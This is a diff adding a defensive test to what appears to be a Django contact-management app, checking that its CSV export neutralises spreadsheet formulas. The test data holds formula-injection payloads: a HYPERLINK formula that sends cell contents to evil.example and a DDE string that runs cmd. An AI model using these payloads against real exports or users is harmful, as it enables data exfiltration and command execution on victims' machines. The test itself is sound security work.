@@ -304,3 +304,28 @@ def test_the_detail_page_offers_the_actions_other_apps_register(agent_client: An
     contact = Contact.objects.create(office=office, last_name="Öztürk")
     html = agent_client.get(f"/contacts/{contact.pk}/").content.decode()
     assert f'href="/exposes/contact/{contact.pk}/"' in html and "Exposés senden" in html
+
+
+def test_the_csv_export_writes_formulas_as_text(agent_client: Client, office: Any, agent: Any) -> None:
+    import csv
+    import io
+
+    planted = make_contact(
+        office,
+        agent,
+        first_name='=HYPERLINK("https://evil.example/?"&A1;"Details")',
+        last_name="-2+3",
+        company_name="@SUM(1+1)*cmd|' /C calc'!A0",
+        city="+49 Köln",
+        street="Hauptstraße",
+    )
+    body = b"".join(
+        agent_client.post("/contacts/export/", {"ids": [planted.pk], "format": "csv"}).streaming_content
+    ).decode()
+    header, row = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["Vorname"] == '\'=HYPERLINK("https://evil.example/?"&A1;"Details")'
+    assert cells["Nachname"] == "'-2+3"
+    assert cells["Firma"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["Ort"] == "'+49 Köln"
+    assert (cells["Straße"], cells["ID"]) == ("Hauptstraße", str(planted.pk))  # ordinary cells unchanged
